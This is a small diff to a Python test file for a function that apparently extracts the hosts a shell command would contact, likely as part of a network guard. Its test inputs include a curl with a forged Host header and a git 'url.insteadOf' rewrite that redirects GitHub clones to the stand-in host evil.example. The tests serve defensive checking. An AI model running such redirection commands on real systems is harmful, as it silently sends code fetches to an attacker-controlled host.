@@ -84,8 +84,9 @@ def test_a_numeric_host_also_counts_as_its_dotted_quad(script):
     assert "127.0.0.1" in hosts(script)
 
 
-def test_a_host_header_and_a_git_url_rewrite_count():
-    assert "evil.example" in hosts("curl -H 'Host: evil.example' http://1.2.3.4/")
+def test_a_git_url_rewrite_counts_and_a_host_header_does_not():
+    # the connection goes where the URL says; a Host header travels to that host
+    assert hosts("curl -H 'Host: evil.example' http://1.2.3.4/") == {"1.2.3.4"}
     assert "evil.example" in hosts(
         "git -c url.https://evil.example/.insteadOf=https://github.com/ clone https://github.com/a/b"
     )
